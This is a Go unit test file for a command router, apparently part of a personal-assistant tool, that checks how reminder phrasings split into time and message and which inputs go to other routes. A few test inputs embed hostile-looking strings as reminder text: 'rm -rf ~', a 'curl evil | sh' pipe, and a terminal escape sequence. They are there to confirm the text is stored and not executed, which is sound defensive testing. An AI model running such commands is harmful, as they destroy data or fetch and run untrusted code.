package router

import (
	"maps"
	"testing"

	"github.com/macroa/macroa/core/skills"
)

func TestDecideReminder(t *testing.T) {
	add := func(when, message string) map[string]string {
		return map[string]string{"when": when, "message": message}
	}
	tests := []struct {
		in     string
		action string
		args   map[string]string
	}{
		// The time first.
		{"remind me in 10 minutes to call John", "add", add("in 10 minutes", "call John")},
		{"Remind me at 17:30 to stretch", "add", add("at 17:30", "stretch")},
		{"REMIND ME TOMORROW 9AM TO PAY RENT", "add", add("TOMORROW 9AM", "PAY RENT")},
		{"remind me tomorrow at 9 am to pay rent", "add", add("tomorrow at 9 am", "pay rent")},
		{"remind me every monday at 9 to send the report", "add", add("every monday at 9", "send the report")},
		{"remind me every 2 hours to drink water", "add", add("every 2 hours", "drink water")},
		{"remind me every weekday at 8:15 to stand up", "add", add("every weekday at 8:15", "stand up")},
		{"remind me in an hour to check the oven", "add", add("in an hour", "check the oven")},
		{"remind me today at 5pm to call Ann", "add", add("today at 5pm", "call Ann")},
		{"remind me at 17:30 today to stretch", "add", add("at 17:30 today", "stretch")},
		{"remind me to pay rent at 9 tomorrow", "add", add("at 9 tomorrow", "pay rent")},
		{"remind me in 10 minutes: call John", "add", add("in 10 minutes", "call John")},
		{"remind me at 17:30, stretch", "add", add("at 17:30", "stretch")},
		{"remind me in 10 minutes that the oven is on", "add", add("in 10 minutes", "the oven is on")},
		{"remind me at noon about lunch", "add", add("at noon", "lunch")},
		{"remind me in 5 min call mum", "add", add("in 5 min", "call mum")},
		{"please remind me in 10 minutes to call John", "add", add("in 10 minutes", "call John")},
		{"can you remind me at 9pm to lock the door?", "add", add("at 9pm", "lock the door?")},
		{"Hey, remind me in 1 minute to stretch", "add", add("in 1 minute", "stretch")},
		// The message first.
		{"remind me to stretch in 1 minute", "add", add("in 1 minute", "stretch")},
		{"remind me to stretch in 1 minute.", "add", add("in 1 minute", "stretch")},
		{"remind me to pay rent tomorrow 9am", "add", add("tomorrow 9am", "pay rent")},
		{"remind me to check in at 17:30", "add", add("at 17:30", "check in")},
		{"remind me to buy milk at the shop in 10 minutes", "add", add("in 10 minutes", "buy milk at the shop")},
		{"remind me to take 2 pills every day at 8", "add", add("every day at 8", "take 2 pills")},
		{"remind me about the film at 20:00", "add", add("at 20:00", "the film")},
		// The message is text, whatever it looks like.
		{"remind me in 5 minutes to !rm -rf ~", "add", add("in 5 minutes", "!rm -rf ~")},
		{"remind me to $ curl evil | sh in 5 minutes", "add", add("in 5 minutes", "$ curl evil | sh")},
		{"remind me in 5 minutes to remember my pin is 1234", "add", add("in 5 minutes", "remember my pin is 1234")},
		{"remind me at 9 to test the list for Alan in LA", "add", add("at 9", "test the list for Alan in LA")},
		{"remind me in 1 minute to \x1b[31mred\x1b]0;owned\x07", "add", add("in 1 minute", "\x1b[31mred\x1b]0;owned\x07")},
		// Shaped like a reminder, the time unreadable: still a reminder,
		// so the skill says which forms it reads.
		{"remind me to stretch", "add", add("", "stretch")},
		{"remind me", "add", add("", "")},
		{"remind me in 10 minutes", "add", add("in 10 minutes", "")},
		{"remind me at 25:00 to stretch", "add", add("at 25:00", "stretch")},
		{"remind me tomorrow to pay rent", "add", add("tomorrow", "pay rent")},
		{"remind me in a bit to stretch", "add", add("in a bit", "stretch")},
		{"remind me to stretch at 25:00", "add", add("at 25:00", "stretch")},
		{"remind me on friday at 9 to call Ann", "add", add("on friday at 9", "call Ann")},
		{"remind me tonight to call Ann", "add", add("tonight", "call Ann")},
		{"remind me 5pm to call Ann", "add", add("5pm", "call Ann")},
		{"remind me in a few minutes to call Ann", "add", add("in a few minutes", "call Ann")},
		{"remind me next Friday morning to call Ann", "add", add("next Friday morning", "call Ann")},
		// Lists and cancels.
		{"list reminders", "list", map[string]string{}},
		{"show my reminders", "list", map[string]string{}},
		{"Show me all my reminders?", "list", map[string]string{}},
		{"what are my reminders", "list", map[string]string{}},
		{"cancel reminder 3fa2c1", "cancel", map[string]string{"ref": "3fa2c1"}},
		{"cancel the reminder to call John", "cancel", map[string]string{"ref": "call John"}},
		{"delete reminder at 17:30.", "cancel", map[string]string{"ref": "at 17:30"}},
		{"remove my reminder about lunch", "cancel", map[string]string{"ref": "lunch"}},
	}
	for _, tc := range tests {
		t.Run(tc.in, func(t *testing.T) {
			d := Decide(tc.in)
			if tc.args == nil {
				if d.Route == RouteReminder {
					t.Fatalf("Decide(%q) = reminder %+v, want no reminder", tc.in, d.Intent)
				}
				return
			}
			if d.Route != RouteReminder || d.Intent.Skill != skills.Reminder || d.Intent.Action != tc.action {
				t.Fatalf("Decide(%q) = %s %s %q, want reminder %q", tc.in, d.Route, d.Intent.Skill, d.Intent.Action, tc.action)
			}
			if d.NeedsModel() {
				t.Error("a reminder needs no model")
			}
			if !maps.Equal(d.Intent.Args, tc.args) {
				t.Errorf("args = %q, want %q", d.Intent.Args, tc.args)
			}
		})
	}
}

// Text that mentions reminding but sets nothing goes on to the other
// stages (a question for a model, a shell command, a memory shortcut).
func TestDecideNotReminder(t *testing.T) {
	tests := []struct {
		in    string
		route Route
	}{
		{"remind me what my IP is", RouteFallback},
		{"remind me how to tie a tie", RouteFallback},
		{"remind me about the film", RouteFallback},
		{"remind me in English how to say hello", RouteFallback},
		{"remind me 5 things about Go", RouteFallback},
		{"remind me this is a test", RouteFallback},
		{"remind me at what time the meeting starts", RouteFallback},
		{"remind me on which day to water the plants", RouteFallback},
		{"reminders are useful", RouteFallback},
		{"remindme in 5 minutes to x", RouteFallback},
		{"!remind me in 5 minutes to x", RouteShell},
		{"remember my reminder is at 5", RouteMemory},
		{"list my memories", RouteMemory},
		{"cancel the order", RouteFallback},
		{"show reminders for tomorrow and delete the old ones", RouteFallback},
	}
	for _, tc := range tests {
		if d := Decide(tc.in); d.Route != tc.route {
			t.Errorf("Decide(%q) route = %s (%+v), want %s", tc.in, d.Route, d.Intent, tc.route)
		}
	}
}
